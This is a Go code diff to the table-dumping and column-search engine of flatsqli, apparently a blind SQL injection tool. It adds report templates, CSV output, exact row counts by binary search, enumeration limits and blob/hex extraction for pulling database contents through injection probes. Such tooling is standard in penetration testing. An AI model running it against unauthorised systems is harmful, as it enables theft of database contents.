@@ -1,9 +1,12 @@
 package finder
 
 import (
+	"errors"
 	"fmt"
 	"os"
 	"strings"
+	"text/template"
+	"time"
 
 	"github.com/morkin1792/flatsqli/internal/calibrator"
 	"github.com/morkin1792/flatsqli/internal/detector"
@@ -13,36 +16,58 @@ import (
 	"github.com/morkin1792/flatsqli/internal/ui"
 )
 
-// WriteOutputFile writes the extracted data to a structured output file
+// WriteOutputFile writes the extracted data to a structured output file,
+// using the default report template
 func WriteOutputFile(outputPath string, data []TableData) error {
-	file, err := os.Create(outputPath)
+	tmpl, err := LoadTemplate("")
 	if err != nil {
 		return err
 	}
-	defer file.Close()
-
-	fmt.Fprintf(file, "FlatSQLi Extraction Results\n")
-	fmt.Fprintf(file, "===========================\n\n")
 
-	for _, table := range data {
-		writeTableToFile(file, table)
+	file, err := os.Create(outputPath)
+	if err != nil {
+		return err
 	}
+	defer file.Close()
 
-	return nil
+	return tmpl.Execute(file, Report{Generated: time.Now(), Tables: data})
 }
 
-// InitOutputFile creates the output file with header
-func InitOutputFile(outputPath string) error {
-	file, err := os.Create(outputPath)
+// InitOutputFile creates the output file with header. With appendMode, an
+// existing file is kept and the header is only written if it is empty.
+func InitOutputFile(outputPath string, appendMode bool) error {
+	file, hasContent, err := openOutputFile(outputPath, appendMode)
 	if err != nil {
 		return err
 	}
 	defer file.Close()
 
-	fmt.Fprintf(file, "# FlatSQLi Extraction Results\n\n")
+	if !hasContent {
+		fmt.Fprintf(file, "# FlatSQLi Extraction Results\n\n")
+	}
 	return nil
 }
 
+// openOutputFile opens an output file for writing, truncating it unless
+// appendMode is set. Reports whether the file already had content.
+func openOutputFile(outputPath string, appendMode bool) (*os.File, bool, error) {
+	if !appendMode {
+		file, err := os.Create(outputPath)
+		return file, false, err
+	}
+
+	file, err := os.OpenFile(outputPath, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0644)
+	if err != nil {
+		return nil, false, err
+	}
+	info, err := file.Stat()
+	if err != nil {
+		file.Close()
+		return nil, false, err
+	}
+	return file, info.Size() > 0, nil
+}
+
 // AppendTableToOutput appends a table's data to the output file
 func AppendTableToOutput(outputPath string, table TableData) error {
 	file, err := os.OpenFile(outputPath, os.O_APPEND|os.O_WRONLY, 0644)
@@ -51,43 +76,13 @@ func AppendTableToOutput(outputPath string, table TableData) error {
 	}
 	defer file.Close()
 
-	writeTableToFile(file, table)
-	return nil
+	return writeTableToFile(file, table)
 }
 
-// writeTableToFile writes a single table's data to a file in markdown format
-func writeTableToFile(file *os.File, table TableData) {
-	fmt.Fprintf(file, "## %s\n\n", table.TableName)
-	if table.RowCount != 0 {
-		fmt.Fprintf(file, "* **Rows:** %s\n", formatRowCount(table.RowCount))
-		fmt.Fprintf(file, "* **Dumped Rows:** %d\n\n", len(table.Rows))
-	} else {
-		fmt.Fprintf(file, "* **Rows:** %d\n\n", len(table.Rows))
-	}
-
-	// Build markdown table header
-	fmt.Fprintf(file, "| %s |\n", strings.Join(table.Columns, " | "))
-
-	// Build separator row (--- for each column)
-	separators := make([]string, len(table.Columns))
-	for i := range separators {
-		separators[i] = "---"
-	}
-	fmt.Fprintf(file, "| %s |\n", strings.Join(separators, " | "))
-
-	// Print each row
-	for _, row := range table.Rows {
-		var values []string
-		for j := range table.Columns {
-			if j < len(row) {
-				values = append(values, row[j])
-			} else {
-				values = append(values, "")
-			}
-		}
-		fmt.Fprintf(file, "| %s |\n", strings.Join(values, " | "))
-	}
-	fmt.Fprintf(file, "\n")
+// writeTableToFile writes a single table's data to a file in markdown format,
+// with the "table" template of the default report
+func writeTableToFile(file *os.File, table TableData) error {
+	return defaultReport.ExecuteTemplate(file, "table", table)
 }
 
 // ColumnMatch represents a found column matching the pattern
@@ -101,31 +96,104 @@ type TableData struct {
 	TableName string
 	Columns   []string
 	Rows      [][]string
-	RowCount  int // estimated total row count (-1 for 1M+)
+	RowCount  int  // estimated total row count (-1 for 1M+)
+	Exact     bool // RowCount is exact (-exact-count)
 }
 
 // Finder handles critical data discovery
 type Finder struct {
-	requester   *requester.Requester
-	calibration *calibrator.CalibrationResult
-	dbType      detector.DatabaseType
-	payloadGen  payloads.DatabasePayloads
-	verbose     bool
-	maxLen      int
-	host        string
+	requester    *requester.Requester
+	calibration  *calibrator.CalibrationResult
+	dbType       detector.DatabaseType
+	payloadGen   payloads.DatabasePayloads
+	verbose      bool
+	maxLen       int
+	minLen       int
+	host         string
+	cache        *storage.HostStore
+	charset      payloads.Charset
+	valueCharset payloads.ValueCharset
+	searchValue  bool // extracting a cell value, where valueCharset applies
+	valueType    payloads.ValueType
+	textColumns  map[string]bool // table.column holding non-integer values, see SetValueType
+	outputFormat string
+	concatRows   bool
+	appendOutput bool
+	exactCount   bool
+	maxRowsTotal int             // rows extracted by Run across all tables (0 = no limit)
+	schema       string          // schema queried instead of the current one, see SetSchema
+	maxColumns   int             // columns enumerated per table (0 = no limit)
+	maxTableScan int             // matches scanned per search term (0 = no limit)
+	blobColumns  map[string]bool // lowercase names of columns extracted uncapped
+	blobDir      string          // where blob values over maxLen are written
+	versionMajor int             // database version, 0 if unknown (see SetVersion)
+	versionMinor int
+	orderColumns map[string]string  // table -> column giving a stable row order
+	exact        map[string]bool    // names read from the catalog, see exactName
+	template     *template.Template // renders the output file at the end (nil = stream markdown)
+	report       Report
+	selfCheck    int   // re-verify every nth binary-searched char (0 = off)
+	uncertain    []int // char positions of the last value that failed the self-check
+	hex          bool  // extract the hex representation of values, see SetHex
 }
 
-// New creates a new Finder
-func New(req *requester.Requester, cal *calibrator.CalibrationResult, dbType detector.DatabaseType, verbose bool, host string) *Finder {
+// New creates a new Finder. When useCache is false the storage cache is neither read nor written.
+func New(req *requester.Requester, cal *calibrator.CalibrationResult, dbType detector.DatabaseType, verbose bool, host string, useCache bool) *Finder {
 	return &Finder{
-		requester:   req,
-		calibration: cal,
-		dbType:      dbType,
-		payloadGen:  payloads.GetPayloadsForDatabase(dbType.ToPayloadType()),
-		verbose:     verbose,
-		maxLen:      70,
-		host:        host,
+		requester:    req,
+		calibration:  cal,
+		dbType:       dbType,
+		payloadGen:   payloads.GetPayloadsForDatabase(dbType.ToPayloadType()),
+		verbose:      verbose,
+		maxLen:       70,
+		host:         host,
+		cache:        storage.ForHost(host, useCache),
+		outputFormat: OutputMarkdown,
+		orderColumns: make(map[string]string),
+		exact:        make(map[string]bool),
+		textColumns:  make(map[string]bool),
+		selfCheck:    defaultSelfCheck,
+		maxColumns:   defaultMaxColumns,
+		maxTableScan: defaultMaxTableScan,
+	}
+}
+
+// Default bounds of the enumeration loops
+const (
+	defaultMaxColumns   = 50
+	defaultMaxTableScan = 100
+)
+
+// maxColumnCount bounds the column count search without -max-columns, far
+// above what any database allows in a table
+const maxColumnCount = 1 << 16
+
+// SetVersion sets the database version, so queries can use the paging syntax
+// it supports (0 = unknown, assumes a modern version)
+func (f *Finder) SetVersion(major, minor int) {
+	f.versionMajor = major
+	f.versionMinor = minor
+}
+
+// SetMaxColumns sets how many columns are enumerated per table (0 = no limit)
+func (f *Finder) SetMaxColumns(n int) {
+	if n < 0 {
+		n = 0
+	}
+	f.maxColumns = n
+}
+
+// SetMaxTableScan sets how many column matches are scanned per search term (0 = no limit)
+func (f *Finder) SetMaxTableScan(n int) {
+	if n < 0 {
+		n = 0
 	}
+	f.maxTableScan = n
+}
+
+// withinLimit reports whether offset is below limit (0 = no limit)
+func withinLimit(offset, limit int) bool {
+	return limit == 0 || offset < limit
 }
 
 // SetMaxLen sets the maximum extraction length
@@ -133,8 +201,131 @@ func (f *Finder) SetMaxLen(maxLen int) {
 	f.maxLen = maxLen
 }
 
-// DumpTable dumps rows from a specific table
-func (f *Finder) DumpTable(tableName string, rowLimit int, outputFile string) error {
+// SetMinLen sets a known lower bound for non-empty extracted lengths (0 = none)
+func (f *Finder) SetMinLen(minLen int) {
+	if minLen < 0 {
+		minLen = 0
+	}
+	f.minLen = minLen
+}
+
+// SetValueType sets how cells are read: as strings, as integers searched
+// directly, or checked first (auto). In auto, a column stops being checked once
+// it returned a non-integer value.
+func (f *Finder) SetValueType(valueType payloads.ValueType) {
+	f.valueType = valueType
+}
+
+// SetHex extracts values through their hex representation, so every probed
+// character is a hex digit. Slower (2x the characters) but safe for binary and
+// multibyte data.
+func (f *Finder) SetHex(enabled bool) {
+	f.hex = enabled
+}
+
+// SetCharset sets the character range searched during extraction
+func (f *Finder) SetCharset(charset payloads.Charset) {
+	f.charset = charset
+}
+
+// SetValueCharset narrows the search to the characters cell values are known
+// to be made of, e.g. hex digits for hashes (empty = the whole charset range).
+// Table and column names, and concatenated rows, use the whole range. The set
+// applies to every dumped column alike.
+func (f *Finder) SetValueCharset(set payloads.ValueCharset) {
+	f.valueCharset = set
+}
+
+// SetOutputFormat sets the output file format (md or csv)
+func (f *Finder) SetOutputFormat(format string) {
+	f.outputFormat = format
+}
+
+// SetAppendOutput makes output files append to existing content instead of truncating
+func (f *Finder) SetAppendOutput(enabled bool) {
+	f.appendOutput = enabled
+}
+
+// SetExactCount makes GetRowCount binary search the exact count instead of
+// stopping at the coarse threshold (10, 100, 1K, ...)
+func (f *Finder) SetExactCount(enabled bool) {
+	f.exactCount = enabled
+}
+
+// SetMaxRowsTotal caps the rows Run extracts across all tables (0 = no limit).
+// Tables are then extracted from the most relevant and smallest first.
+func (f *Finder) SetMaxRowsTotal(n int) {
+	if n < 0 {
+		n = 0
+	}
+	f.maxRowsTotal = n
+}
+
+// DumpTable dumps rows from a specific table.
+// When columns is non-empty it is used as-is, skipping column enumeration.
+func (f *Finder) DumpTable(tableName string, columns []string, rowLimit int, outputFile string) error {
+	tableData, err := f.dumpTable(tableName, columns, rowLimit, outputFile)
+	if tableData != nil && outputFile != "" {
+		f.finishOutput(outputFile, []TableData{*tableData})
+	}
+	return err
+}
+
+// DumpTables dumps several tables in one run, reusing the calibration and the
+// cached columns of each. Every table gets its own section of the output file
+// (its own file with CSV), and rowLimit applies per table. An error on one table
+// is reported and the next one is dumped, unless the run must stop.
+func (f *Finder) DumpTables(tableNames []string, rowLimit int, outputFile string) error {
+	// Sections after the first are appended to the file the first one created
+	appendOutput := f.appendOutput
+	defer func() { f.appendOutput = appendOutput }()
+
+	var dumped []TableData
+	var runErr error
+	for _, tableName := range tableNames {
+		tableFile := outputFile
+		if outputFile != "" && f.outputFormat == OutputCSV {
+			tableFile = csvPathForTable(outputFile, tableName)
+			ui.Info("Writing %s to: %s", tableName, tableFile)
+		}
+
+		tableData, err := f.dumpTable(tableName, nil, rowLimit, tableFile)
+		if tableData != nil {
+			dumped = append(dumped, *tableData)
+			if outputFile != "" && f.outputFormat != OutputCSV {
+				f.appendOutput = true
+			}
+		}
+		if stopsRun(err) {
+			runErr = err
+			break
+		}
+		if err != nil {
+			ui.Warning("Dump of %s failed: %v", tableName, err)
+			runErr = errors.Join(runErr, fmt.Errorf("%s: %w", tableName, err))
+		}
+	}
+
+	if len(dumped) > 0 && outputFile != "" && f.outputFormat != OutputCSV {
+		f.appendOutput = appendOutput
+		f.finishOutput(outputFile, dumped)
+	}
+	return runErr
+}
+
+// finishOutput writes the report of the dumped tables when a template is set
+func (f *Finder) finishOutput(outputFile string, tables []TableData) {
+	if f.template != nil && f.outputFormat != OutputCSV {
+		if err := f.writeReport(outputFile, tables); err != nil {
+			ui.Warning("Failed to write report: %v", err)
+		}
+	}
+	ui.Info("Output written to: %s", outputFile)
+}
+
+// dumpTable dumps a table, streaming its rows to outputFile (but not the
+// template report). The table data is nil when nothing was dumped.
+func (f *Finder) dumpTable(tableName string, columns []string, rowLimit int, outputFile string) (*TableData, error) {
 	ui.Info("Dumping table: %s", tableName)
 
 	// Get row count
@@ -142,24 +333,27 @@ func (f *Finder) DumpTable(tableName string, rowLimit int, outputFile string) er
 	rowCount, err := f.GetRowCount(tableName)
 	if err != nil {
 		ui.ProgressDone()
-		return fmt.Errorf("failed to get row count: %w", err)
+		return nil, fmt.Errorf("failed to get row count: %w", err)
 	}
 	ui.ProgressDone()
-	ui.Info("Table has %s rows", formatRowCount(rowCount))
+	ui.Info("Table has %s rows", formatRowCount(rowCount, f.exactCount))
 
 	if rowCount == 0 {
 		ui.Info("Table is empty, nothing to dump")
-		return nil
+		return nil, nil
 	}
 
-	// Get columns - check cache first
-	var columns []string
-	cachedColumns := storage.GetTableColumns(f.host, tableName)
-	if len(cachedColumns) > 0 {
+	// Get columns - user-provided, then cache, then enumeration
+	if len(columns) > 0 {
+		ui.Info("Using %d provided columns: %s", len(columns), strings.Join(columns, ", "))
+	} else if cachedColumns := f.cache.GetTableColumns(tableName); len(cachedColumns) > 0 {
 		// Validate cached columns count
 		actualCount, err := f.GetColumnCount(tableName)
 		if err == nil && actualCount == len(cachedColumns) {
 			columns = cachedColumns
+			for _, col := range columns {
+				f.exactName(col)
+			}
 			ui.Info("Using %d cached columns", len(columns))
 		}
 	}
@@ -168,10 +362,10 @@ func (f *Finder) DumpTable(tableName string, rowLimit int, outputFile string) er
 		ui.Info("Retrieving columns...")
 		var err error
 		columns, err = f.GetTableColumns(tableName, func(colName string) {
-			_ = storage.AddTableColumn(f.host, tableName, colName)
+			_ = f.cache.AddTableColumn(tableName, colName)
 		})
 		if err != nil {
-			return fmt.Errorf("failed to get columns: %w", err)
+			return nil, fmt.Errorf("failed to get columns: %w", err)
 		}
 		ui.Info("Found %d columns: %s", len(columns), strings.Join(columns, ", "))
 	}
@@ -184,7 +378,13 @@ func (f *Finder) DumpTable(tableName string, rowLimit int, outputFile string) er
 
 	// Initialize output file with table header
 	if outputFile != "" {
-		if err := initTableHeader(outputFile, tableName, rowCount, columns); err != nil {
+		var err error
+		if f.outputFormat == OutputCSV {
+			err = initCSVFile(outputFile, columns, f.appendOutput)
+		} else if f.streamsMarkdown() {
+			err = initTableHeader(outputFile, tableName, formatRowCount(rowCount, f.exactCount), columns, f.appendOutput)
+		}
+		if err != nil {
 			ui.Verbose(f.verbose, "Failed to create output file: %v", err)
 		}
 	}
@@ -192,9 +392,13 @@ func (f *Finder) DumpTable(tableName string, rowLimit int, outputFile string) er
 	// Extract rows incrementally
 	ui.Info("Extracting %d rows...", actualLimit)
 	var rows [][]string
-	for rowIdx := 0; rowIdx < actualLimit; rowIdx++ {
+	var stopErr error
+	for rowIdx := 0; rowIdx < actualLimit && stopErr == nil; rowIdx++ {
 		row, err := f.extractSingleRow(tableName, columns, rowIdx)
-		if err != nil {
+		if stopsRun(err) {
+			// Keep the partial row, then stop extracting
+			stopErr = err
+		} else if err != nil {
 			ui.Verbose(f.verbose, "Failed to extract row %d: %v", rowIdx+1, err)
 			continue
 		}
@@ -212,6 +416,7 @@ func (f *Finder) DumpTable(tableName string, rowLimit int, outputFile string) er
 		}
 
 		rows = append(rows, row)
+		streamRow(tableName, row)
 
 		// Save to cache
 		rowMap := make(map[string]string)
@@ -220,11 +425,17 @@ func (f *Finder) DumpTable(tableName string, rowLimit int, outputFile string) er
 				rowMap[col] = row[i]
 			}
 		}
-		_ = storage.AddTableRow(f.host, tableName, rowMap)
+		_ = f.cache.AddTableRow(tableName, rowMap)
 
 		// Append row to output file immediately
 		if outputFile != "" {
-			if err := appendRowToFile(outputFile, row); err != nil {
+			var err error
+			if f.outputFormat == OutputCSV {
+				err = appendCSVRow(outputFile, row)
+			} else if f.streamsMarkdown() {
+				err = appendRowToFile(outputFile, row)
+			}
+			if err != nil {
 				ui.Verbose(f.verbose, "Failed to append row to output: %v", err)
 			}
 		}
@@ -235,31 +446,38 @@ func (f *Finder) DumpTable(tableName string, rowLimit int, outputFile string) er
 		Columns:   columns,
 		Rows:      rows,
 		RowCount:  rowCount,
+		Exact:     f.exactCount,
 	}
 
-	if outputFile != "" {
-		// Add blank line after table
+	// Add blank line after table
+	if outputFile != "" && f.streamsMarkdown() {
 		appendNewlineToFile(outputFile)
-		ui.Info("Output written to: %s", outputFile)
 	}
 
 	// Print results
 	PrintTableData(tableData)
 
-	return nil
+	if stopErr != nil {
+		ui.Warning("Stopped early (%v), dumped rows are partial", stopErr)
+		return &tableData, stopErr
+	}
+
+	return &tableData, nil
 }
 
 // initTableHeader writes the table header to file
-func initTableHeader(outputPath, tableName string, rowCount int, columns []string) error {
-	file, err := os.Create(outputPath)
+func initTableHeader(outputPath, tableName, rowCount string, columns []string, appendMode bool) error {
+	file, hasContent, err := openOutputFile(outputPath, appendMode)
 	if err != nil {
 		return err
 	}
 	defer file.Close()
 
-	fmt.Fprintf(file, "# FlatSQLi Extraction Results\n\n")
+	if !hasContent {
+		fmt.Fprintf(file, "# FlatSQLi Extraction Results\n\n")
+	}
 	fmt.Fprintf(file, "## %s\n\n", tableName)
-	fmt.Fprintf(file, "* **Rows:** %s\n\n", formatRowCount(rowCount))
+	fmt.Fprintf(file, "* **Rows:** %s\n\n", rowCount)
 
 	// Build markdown table header
 	fmt.Fprintf(file, "| %s |\n", strings.Join(columns, " | "))
@@ -295,17 +513,44 @@ func appendNewlineToFile(outputPath string) {
 	}
 }
 
+// stopsRun reports whether err ends the whole run: once the request budget is
+// spent, or probes are blocked or keep getting ambiguous responses, every later
+// request fails the same way, so the rows extracted so far are kept instead of
+// going through the remaining work
+func stopsRun(err error) bool {
+	return errors.Is(err, requester.ErrBudgetExhausted) || errors.Is(err, calibrator.ErrBlocked) ||
+		errors.Is(err, calibrator.ErrUnknownResponse)
+}
+
 // extractSingleRow extracts one row from the table
 func (f *Finder) extractSingleRow(tableName string, columns []string, rowIdx int) ([]string, error) {
+	// Concatenation caps every cell at maxLen, blob columns need their own queries
+	if f.concatRows && len(columns) > 1 && !f.hasBlobColumn(columns) && f.valueType != payloads.ValueInt {
+		row, err := f.extractRowConcatenated(tableName, columns, rowIdx)
+		if err == nil || stopsRun(err) {
+			return row, err
+		}
+		ui.Verbose(f.verbose, "Row %d: %v, extracting cell by cell", rowIdx+1, err)
+	}
+
+	orderBy := f.rowOrder(tableName, columns)
 	var row []string
 	for colIdx, col := range columns {
-		query := f.getCellQuery(tableName, col, rowIdx)
+		query := f.getCellQuery(tableName, col, orderBy, rowIdx)
+		f.uncertain = nil // not every error path of the cell extraction resets it
 
 		if colIdx == 0 {
 			ui.Progress("Row %d: extracting...", rowIdx+1)
 		}
 
-		value, err := f.extractString(query)
+		var value string
+		var err error
+		if f.isBlobColumn(col) {
+			value, err = f.extractLargeCell(query, tableName, col, rowIdx)
+		} else {
+			value, err = f.extractCell(tableName, col, query)
+		}
+		value = markUncertain(value, f.uncertain)
 		if err != nil {
 			if value != "" {
 				value = fmt.Sprintf("%s [partial]", value)
@@ -316,6 +561,11 @@ func (f *Finder) extractSingleRow(tableName string, columns []string, rowIdx int
 		row = append(row, value)
 
 		ui.Progress("Row %d: | %s", rowIdx+1, strings.Join(row, " | "))
+
+		if stopsRun(err) {
+			ui.ProgressDone()
+			return row, err
+		}
 	}
 	ui.ProgressDone()
 
@@ -341,18 +591,26 @@ func (f *Finder) FindColumns(pattern string, tableLimit int, onFound func(string
 		// Show live progress
 		ui.Progress("Searching term %d/%d: %s", termIdx+1, len(terms), term)
 
-		// Search columns matching this term
-		for offset := 0; offset < 100; offset++ {
+		// Search columns matching this term, until no match is left
+		for offset := 0; ; offset++ {
 			// Stop if we've hit table limit
 			if len(seenTables) >= tableLimit {
 				break
 			}
+			if !withinLimit(offset, f.maxTableScan) {
+				ui.Warning("Stopped scanning '%s' after %d matches (see -max-table-scan)", term, f.maxTableScan)
+				break
+			}
 
 			// Get table_name at this offset for this term
 			tableQuery := f.getTableAtOffsetSingleTerm(term, offset)
 			// ui.Verbose(f.verbose, "Table query: %s", tableQuery) // Optional debug
 
 			tableName, err := f.extractString(tableQuery)
+			if stopsRun(err) {
+				ui.ProgressDone()
+				return matches, err
+			}
 			if err != nil || tableName == "" {
 				break
 			}
@@ -368,6 +626,7 @@ func (f *Finder) FindColumns(pattern string, tableLimit int, onFound func(string
 				continue
 			}
 			seenTables[tableKey] = true
+			f.exactName(tableName)
 
 			// Callback for real-time saving
 			if onFound != nil {
@@ -388,9 +647,17 @@ func (f *Finder) FindColumns(pattern string, tableLimit int, onFound func(string
 	}
 	ui.ProgressDone()
 
-	if len(matches) > 0 {
-		ui.Success("Found %d columns in %d tables", len(matches), len(seenTables))
+	if len(matches) == 0 {
+		var cleaned []string
+		for _, term := range terms {
+			if term = strings.TrimSpace(term); term != "" {
+				cleaned = append(cleaned, term)
+			}
+		}
+		return f.findTablesInFallbackCatalog(cleaned, tableLimit, onFound)
 	}
+
+	ui.Success("Found %d columns in %d tables", len(matches), len(seenTables))
 	return matches, nil
 }
 
@@ -400,7 +667,12 @@ func (f *Finder) GetTableColumns(tableName string, onFound func(string)) ([]stri
 
 	ui.Progress("Getting columns for %s...", tableName)
 
-	for offset := 0; offset < 50; offset++ { // Max 50 columns per table
+	// Stops at the first empty name, the cap only bounds huge tables
+	for offset := 0; ; offset++ {
+		if !withinLimit(offset, f.maxColumns) {
+			ui.Warning("Stopped at %d columns for %s (see -max-columns)", f.maxColumns, tableName)
+			break
+		}
 		query := f.getTableColumnAtOffset(tableName, offset)
 		ui.Verbose(f.verbose, "Column query: %s", query)
 
@@ -415,7 +687,7 @@ func (f *Finder) GetTableColumns(tableName string, onFound func(string)) ([]stri
 		if colName == "" {
 			break
 		}
-		columns = append(columns, colName)
+		columns = append(columns, f.exactName(colName))
 		if onFound != nil {
 			onFound(colName)
 		}
@@ -428,17 +700,18 @@ func (f *Finder) GetTableColumns(tableName string, onFound func(string)) ([]stri
 
 // GetRowCount returns an approximate row count for a table.
 // Returns -1 if count is >= 1M (displayed as "+1M")
-// Uses threshold checks for fast approximation, only exact for < 10 rows.
+// Uses threshold checks for fast approximation, only exact for < 10 rows
+// unless SetExactCount is enabled.
 func (f *Finder) GetRowCount(tableName string) (int, error) {
 	query := f.getRowCountQuery(tableName)
 
 	// First check if > 0
 	payload := f.payloadGen.GetComparisonPayload(query, 0)
-	resp, err := f.requester.Send(payload)
+	isTrue, err := f.calibration.Probe(f.requester, payload)
 	if err != nil {
 		return 0, err
 	}
-	if !f.calibration.IsTrue(resp.Fingerprint) {
+	if !isTrue {
 		return 0, nil
 	}
 
@@ -448,13 +721,16 @@ func (f *Finder) GetRowCount(tableName string) (int, error) {
 	// Check from largest threshold
 	for _, threshold := range thresholds {
 		payload := f.payloadGen.GetComparisonPayload(query, threshold-1) // COUNT > threshold-1 means COUNT >= threshold
-		resp, err := f.requester.Send(payload)
+		isTrue, err := f.calibration.Probe(f.requester, payload)
 		if err != nil {
 			return 0, err
 		}
 
-		if f.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			// Count >= threshold
+			if f.exactCount {
+				return f.exactRowCount(query, threshold)
+			}
 			if threshold == 1000000 {
 				return -1, nil // Signal for "+1M"
 			}
@@ -470,11 +746,11 @@ func (f *Finder) GetRowCount(tableName string) (int, error) {
 	for low < high {
 		mid := (low + high + 1) / 2
 		payload := f.payloadGen.GetComparisonPayload(query, mid-1)
-		resp, err := f.requester.Send(payload)
+		isTrue, err := f.calibration.Probe(f.requester, payload)
 		if err != nil {
 			return low, err
 		}
-		if f.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			low = mid
 		} else {
 			high = mid - 1
@@ -484,6 +760,48 @@ func (f *Finder) GetRowCount(tableName string) (int, error) {
 	return low, nil
 }
 
+// maxExactRowCount bounds the upward search above 1M rows
+const maxExactRowCount = 1 << 30
+
+// exactRowCount binary searches the exact count of a query known to be >= low.
+// The upper bound is the next threshold (low*10), doubled above 1M until the
+// count is below it. Returns -1 ("+1M") past maxExactRowCount.
+func (f *Finder) exactRowCount(query string, low int) (int, error) {
+	high := low*10 - 1
+	if low >= 1000000 {
+		high = low*2 - 1
+		for {
+			if high >= maxExactRowCount {
+				return -1, nil
+			}
+			isTrue, err := f.calibration.Probe(f.requester, f.payloadGen.GetComparisonPayload(query, high))
+			if err != nil {
+				return -1, err
+			}
+			if !isTrue {
+				break
+			}
+			low = high + 1
+			high = low*2 - 1
+		}
+	}
+
+	ui.Verbose(f.verbose, "Searching exact row count in [%d, %d]", low, high)
+	for low < high {
+		mid := (low + high + 1) / 2
+		isTrue, err := f.calibration.Probe(f.requester, f.payloadGen.GetComparisonPayload(query, mid-1))
+		if err != nil {
+			return low, err
+		}
+		if isTrue {
+			low = mid
+		} else {
+			high = mid - 1
+		}
+	}
+	return low, nil
+}
+
 // GetColumnCount returns the exact number of columns in a table using binary search.
 // Used to validate cached column counts.
 func (f *Finder) GetColumnCount(tableName string) (int, error) {
@@ -491,26 +809,39 @@ func (f *Finder) GetColumnCount(tableName string) (int, error) {
 
 	// First check if > 0
 	payload := f.payloadGen.GetComparisonPayload(query, 0)
-	resp, err := f.requester.Send(payload)
+	isTrue, err := f.calibration.Probe(f.requester, payload)
 	if err != nil {
 		return 0, err
 	}
-	if !f.calibration.IsTrue(resp.Fingerprint) {
+	if !isTrue {
 		return 0, nil
 	}
 
-	// Binary search for exact count (max 100 columns expected)
+	// Binary search for exact count, up to the -max-columns bound: with no
+	// bound, the range grows until it holds the count
 	low := 1
-	high := 100
+	high := f.maxColumns
+	if high == 0 {
+		for high = defaultMaxColumns * 2; high < maxColumnCount; high *= 2 {
+			isTrue, err := f.calibration.Probe(f.requester, f.payloadGen.GetComparisonPayload(query, high))
+			if err != nil {
+				return low, err
+			}
+			if !isTrue {
+				break
+			}
+			low = high + 1
+		}
+	}
 
 	for low < high {
 		mid := (low + high + 1) / 2
 		payload := f.payloadGen.GetComparisonPayload(query, mid-1)
-		resp, err := f.requester.Send(payload)
+		isTrue, err := f.calibration.Probe(f.requester, payload)
 		if err != nil {
 			return low, err
 		}
-		if f.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			low = mid
 		} else {
 			high = mid - 1
@@ -520,59 +851,73 @@ func (f *Finder) GetColumnCount(tableName string) (int, error) {
 	return low, nil
 }
 
-// ExtractTableRows extracts rows from a table
-func (f *Finder) ExtractTableRows(tableName string, columns []string, rowLimit int) ([][]string, error) {
+// ExtractTableRows extracts rows from a table.
+// onRow (optional) is called with each row as soon as it is extracted.
+func (f *Finder) ExtractTableRows(tableName string, columns []string, rowLimit int, onRow func([]string)) ([][]string, error) {
 	var rows [][]string
 
 	for rowIdx := 0; rowIdx < rowLimit; rowIdx++ {
-		var row []string
-		hasData := false
-
-		for colIdx, col := range columns {
-			// Build query to get this cell
-			query := f.getCellQuery(tableName, col, rowIdx)
+		row, err := f.extractSingleRow(tableName, columns, rowIdx)
 
-			// Show live progress
-			if colIdx == 0 {
-				ui.Progress("Row %d: extracting...", rowIdx+1)
+		hasData := false
+		for _, v := range row {
+			if v != "" {
+				hasData = true
+				break
 			}
+		}
 
-			value, err := f.extractString(query)
-			if err != nil {
-				if value != "" {
-					value = fmt.Sprintf("%s [partial]", value)
-				} else {
-					value = fmt.Sprintf("[error: %v]", err)
+		// Out of requests or blocked: return the rows extracted so far
+		if stopsRun(err) {
+			if hasData {
+				rows = append(rows, row)
+				if onRow != nil {
+					onRow(row)
 				}
+				streamRow(tableName, row)
 			}
-			if value != "" {
-				hasData = true
-			}
-			row = append(row, value)
-
-			// Update progress with current values
-			ui.Progress("Row %d: | %s", rowIdx+1, strings.Join(row, " | "))
+			return rows, err
 		}
-		ui.ProgressDone()
 
 		if !hasData {
 			break // No more rows
 		}
 
 		rows = append(rows, row)
+		if onRow != nil {
+			onRow(row)
+		}
+		streamRow(tableName, row)
 	}
 
 	return rows, nil
 }
 
-// PrintTableData prints extracted table data in a nice format
+// streamRow sends an extracted row to stdout in stream mode, prefixed with its table
+func streamRow(tableName string, row []string) {
+	if ui.Stream() {
+		ui.Row(append([]string{tableName}, row...)...)
+	}
+}
+
+// PrintTableData prints extracted table data in a nice format. In stream mode
+// the rows were already sent to stdout, so the table goes to stderr (or nowhere
+// with -quiet).
 func PrintTableData(data TableData) {
-	fmt.Printf("\nTable: %s\n", data.TableName)
-	fmt.Printf("  Columns: %s\n", strings.Join(data.Columns, ", "))
-	fmt.Println("  " + strings.Repeat("─", 50))
+	out := os.Stdout
+	if ui.Stream() {
+		if ui.Quiet() {
+			return
+		}
+		out = os.Stderr
+	}
+
+	fmt.Fprintf(out, "\nTable: %s\n", data.TableName)
+	fmt.Fprintf(out, "  Columns: %s\n", strings.Join(data.Columns, ", "))
+	fmt.Fprintln(out, "  "+strings.Repeat("─", 50))
 
 	for i, row := range data.Rows {
-		fmt.Printf("  Row %d: | %s |\n", i+1, strings.Join(row, " | "))
+		fmt.Fprintf(out, "  Row %d: | %s |\n", i+1, strings.Join(row, " | "))
 	}
 }
 
@@ -584,3 +929,14 @@ func GroupByTable(matches []ColumnMatch) map[string][]string {
 	}
 	return result
 }
+
+// knownColumns drops the empty names of matches without a column
+func knownColumns(columns []string) []string {
+	var known []string
+	for _, col := range columns {
+		if col != "" {
+			known = append(known, col)
+		}
+	}
+	return known
+}